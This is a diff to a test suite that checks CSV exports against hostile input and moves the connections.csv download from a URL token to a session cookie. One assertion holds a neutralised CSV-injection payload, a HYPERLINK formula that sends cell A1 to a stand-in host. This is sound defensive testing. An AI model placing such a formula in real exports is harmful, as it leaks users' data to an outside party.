@@ -18,6 +18,7 @@ import { builtDigest, importedSubscriber } from '../support/fixtures.ts';
 import { assertPlainWords, assertUnchanged, leakIn, snapshot, visibleText, within } from '../support/hostile/checks.ts';
 import { exportCases, type ExportCase } from '../support/hostile/export-cases.ts';
 import { connectionsCsv } from '../support/hostile/files.ts';
+import { signedIn } from '../support/session.ts';
 import { createTestContext, type TestContext } from '../support/test-context.ts';
 
 const cases = exportCases();
@@ -156,8 +157,8 @@ describe('hostile exports through storeUpload and runImport', () => {
     }
     const app = await buildWebApp(ctx);
     try {
-      const token = await issueToken(ctx.db, ctx.config.tokenSecrets, { subscriberId: subscriber.id, scope: 'digest' });
-      const csv = await app.inject({ method: 'GET', url: `/my-data/${token}/connections.csv` });
+      const { cookie } = await signedIn(ctx, subscriber.id);
+      const csv = await app.inject({ method: 'GET', url: '/my-data/connections.csv', headers: { cookie } });
       expect(csv.statusCode).toBe(200);
       // Every cell is quoted and a formula start gets a leading apostrophe (OWASP CSV injection).
       expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
